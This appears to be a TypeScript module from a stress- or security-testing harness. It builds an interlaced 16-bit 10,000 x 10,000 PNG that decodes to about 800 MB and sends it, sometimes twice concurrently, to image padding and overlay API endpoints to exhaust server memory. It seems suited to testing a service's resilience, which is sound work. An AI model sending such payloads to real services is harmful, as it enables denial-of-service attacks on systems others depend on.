import { type Attack, type AnyRequest, sendTogether } from './attack.ts';
import { makeForm } from './form.ts';
import { overlayRequest } from './large-texts.ts';
import { makePng } from './pictures/png.ts';

/** Pictures with 16 bits a sample in seven passes: 800 MB decoded, all needed for the first row. */
export const deepPictures: readonly Attack[] = [
  {
    name: 'R7-padding',
    sends: 'interlaced PNG, 16-bit RGBA, 10,000 x 10,000',
    prepare: async () => {
      const picture = await makeDeepPicture();
      const form = makeForm({ padding_size: '50' }, { field: 'image', name: 'deep.png', bytes: picture });
      const call: AnyRequest = { path: '/api/image_padding', ...form };
      return { run: (target) => sendTogether(target, call) };
    },
  },
  {
    name: 'R7-overlays-two',
    sends: '2 x the same with 20 texts',
    prepare: async () => {
      const call = overlayRequest(await makeDeepPicture());
      return { run: (target) => sendTogether(target, call, 2) };
    },
  },
];

async function makeDeepPicture(): Promise<Buffer> {
  return makePng({ width: 10_000, height: 10_000, colourType: 'rgba', bitDepth: 16, interlaced: true });
}
